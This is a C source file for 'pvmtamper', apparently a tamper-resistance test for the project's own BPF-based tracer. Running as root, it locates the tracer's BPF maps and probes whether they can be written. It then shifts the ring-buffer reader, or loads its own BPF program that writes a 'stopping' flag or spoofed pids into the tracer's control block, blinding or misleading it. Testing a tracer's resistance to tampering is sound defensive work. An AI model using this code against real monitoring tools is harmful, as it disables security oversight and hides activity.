/* SPDX-License-Identifier: Apache-2.0 */
/*
 * pvmtamper - what root can do to the maps of a tracer, whose numbers stand in /proc/PID/fdinfo. It prints a line for each.
 * pvmtamper PID write    by bpf(2) and mmap, every element of which it knows the key; it changes nothing that it could
 * pvmtamper PID ring     moves the place at which the tracer reads its rings
 * pvmtamper PID stopping by a program of its own, which writes to the control block that nothing is to be seen any more
 * pvmtamper PID child    likewise, to what both share: that this program's parent is the tracer's self-test
 * pvmtamper PID reader   likewise, that it is the tracer
 */
#include "bpf/control.h"
#include "trigger.h"

#include <dirent.h>
#include <linux/bpf.h>
#include <stddef.h>
#include <sys/socket.h>

#define ALIGNED 128
#define VALUE_MAX (1u << 20)
#define NOWHERE UINT32_MAX

struct map {
	int fd;
	struct bpf_map_info info;
};

static long bpf(int cmd, union bpf_attr *attr)
{
	return syscall(SYS_bpf, cmd, attr, sizeof(*attr));
}

/* Opens the map of this number. */
static bool open_map(uint32_t id, struct map *m)
{
	union bpf_attr attr = { .map_id = id };

	m->fd = (int)bpf(BPF_MAP_GET_FD_BY_ID, &attr);
	if (m->fd < 0)
		return false;
	memset(&m->info, 0, sizeof(m->info));
	memset(&attr, 0, sizeof(attr));
	attr.info.bpf_fd = (uint32_t)m->fd;
	attr.info.info_len = sizeof(m->info);
	attr.info.info = (uint64_t)(uintptr_t)&m->info;
	return bpf(BPF_OBJ_GET_INFO_BY_FD, &attr) == 0;
}

/* Goes on to the next map that the process has a descriptor of. */
static bool next_map(const char *pid, DIR *dir, struct map *m)
{
	const struct dirent *entry;
	char path[512], line[256];
	unsigned int id;
	FILE *info;

	while ((entry = readdir(dir))) {
		snprintf(path, sizeof(path), "/proc/%s/fdinfo/%s", pid, entry->d_name);
		info = fopen(path, "re");
		id = 0;
		while (info && fgets(line, sizeof(line), info)) {
			if (!strncmp(line, "map_id:", 7))
				id = (unsigned int)strtoul(line + 7, NULL, 10);
		}
		if (info)
			fclose(info);
		if (id && open_map(id, m))
			return true;
	}
	return false;
}

static int try_element(const struct map *m, int cmd)
{
	static char key[4096], value[VALUE_MAX];
	union bpf_attr attr = { .map_fd = (uint32_t)m->fd };

	attr.key = (uint64_t)(uintptr_t)key;
	attr.value = (uint64_t)(uintptr_t)value;
	/* It has to be there already, which it is in an array alone. */
	attr.flags = cmd == BPF_MAP_UPDATE_ELEM ? BPF_EXIST : 0;
	return bpf(cmd, &attr) ? errno : 0;
}

static int try_to_map(const struct map *m)
{
	void *at = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, m->fd, 0);

	return at == MAP_FAILED ? errno : 0;
}

/* An element that can be written to is not tried: the tracer goes on. */
static void tell(const struct map *m)
{
	const bool single = m->info.value_size > PAGE;

	printf("{\"map\":\"%.16s\",\"type\":%u,\"mmap\":%d,\"update\":%d,\"delete\":%d}\n",
	       m->info.name, m->info.type, try_to_map(m),
	       single && m->info.type == BPF_MAP_TYPE_ARRAY ? -1
							    : try_element(m, BPF_MAP_UPDATE_ELEM),
	       try_element(m, BPF_MAP_DELETE_ELEM));
}

static void move_ring(const struct map *m)
{
	unsigned long *reader = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, m->fd, 0);

	if (reader == MAP_FAILED)
		die("the ring");
	__atomic_fetch_add(reader, 8, __ATOMIC_RELAXED);
	printf("{\"moved\":\"%.16s\"}\n", m->info.name);
}

/* Returns where a block is in a map of global variables that begins with one of these, and goes on with the word; NOWHERE: not
 * there. */
static uint32_t find_block(const struct map *m, size_t at, uint32_t word)
{
	const size_t size = (m->info.value_size + PAGE - 1) & ~(PAGE - 1);
	const char *map = mmap(NULL, size, PROT_READ, MAP_SHARED, m->fd, 0);
	uint32_t found = NOWHERE;

	if (map == MAP_FAILED)
		return NOWHERE;
	for (uint32_t i = 0; i + ALIGNED <= m->info.value_size; i += ALIGNED) {
		if (!memcmp(map + i + at, &word, sizeof(word)))
			found = found == NOWHERE ? i : found;
	}
	munmap((void *)map, size);
	return found;
}

/* Loads a program that writes a word there, and lets it run for a packet of ours. */
static void write_by_program(const struct map *m, uint32_t place, uint32_t word)
{
	const struct bpf_insn code[] = {
		{ .code = BPF_LD | BPF_DW,
		  .dst_reg = 1,
		  .src_reg = BPF_PSEUDO_MAP_VALUE,
		  .imm = m->fd },
		{ .imm = (int)place },
		{ .code = BPF_ST | BPF_MEM | BPF_W, .dst_reg = 1, .imm = (int)word },
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 0 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	union bpf_attr attr = { .prog_type = BPF_PROG_TYPE_SOCKET_FILTER };
	int prog, pair[2];

	attr.insns = (uint64_t)(uintptr_t)code;
	attr.insn_cnt = sizeof(code) / sizeof(code[0]);
	attr.license = (uint64_t)(uintptr_t) "GPL";
	prog = (int)bpf(BPF_PROG_LOAD, &attr);
	if (prog < 0 || socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) ||
	    setsockopt(pair[1], SOL_SOCKET, SO_ATTACH_BPF, &prog, sizeof(prog)))
		die("a program of our own");
	(void)!write(pair[0], "x", 1);
	printf("{\"wrote\":\"%.16s\"}\n", m->info.name);
}

/* These are words, the block each is in, and by which word that is found. */
static const struct target {
	const char *name;
	size_t at, found_by;
	bool tracer; /* the word that the block is found by is the tracer's pid; else the control block's size */
	bool parent; /* our parent's pid is written; else PVM_NO_EXITS */
} targets[] = {
	{ "stopping", offsetof(struct pvm_control, stopping), offsetof(struct pvm_control, size),
	  false, false },
	{ "child", offsetof(struct pvm_shared, self_pid[1]),
	  offsetof(struct pvm_shared, self_pid[0]), true, true },
	{ "reader", offsetof(struct pvm_shared, self_pid[0]),
	  offsetof(struct pvm_shared, self_pid[0]), true, true },
};

static void write_to(const struct map *m, const char *pid, const struct target *to)
{
	const uint32_t by = to->tracer ? (uint32_t)strtoul(pid, NULL, 10)
				       : sizeof(struct pvm_control);
	const uint32_t place = find_block(m, to->found_by, by);

	if (place != NOWHERE)
		write_by_program(m, place + (uint32_t)to->at,
				 to->parent ? (uint32_t)getppid() : PVM_NO_EXITS);
}

/* Tries what is asked for on this map of the tracer's. */
static void try_map(const struct map *m, const char *pid, const char *what)
{
	if (!strcmp(what, "write"))
		tell(m);
	else if (!strcmp(what, "ring") && m->info.type == BPF_MAP_TYPE_RINGBUF)
		move_ring(m);
	for (size_t i = 0; i < sizeof(targets) / sizeof(targets[0]); i++) {
		if (!strcmp(what, targets[i].name) && m->info.type == BPF_MAP_TYPE_ARRAY &&
		    m->info.value_size > PAGE)
			write_to(m, pid, &targets[i]);
	}
}

int main(int argc, char **argv)
{
	char path[64];
	struct map m;
	DIR *dir;

	if (argc != 3)
		return 64;
	snprintf(path, sizeof(path), "/proc/%s/fdinfo", argv[1]);
	dir = opendir(path);
	if (!dir)
		die(path);
	for (; next_map(argv[1], dir, &m); close(m.fd))
		try_map(&m, argv[1], argv[2]);
	closedir(dir);
	return 0;
}
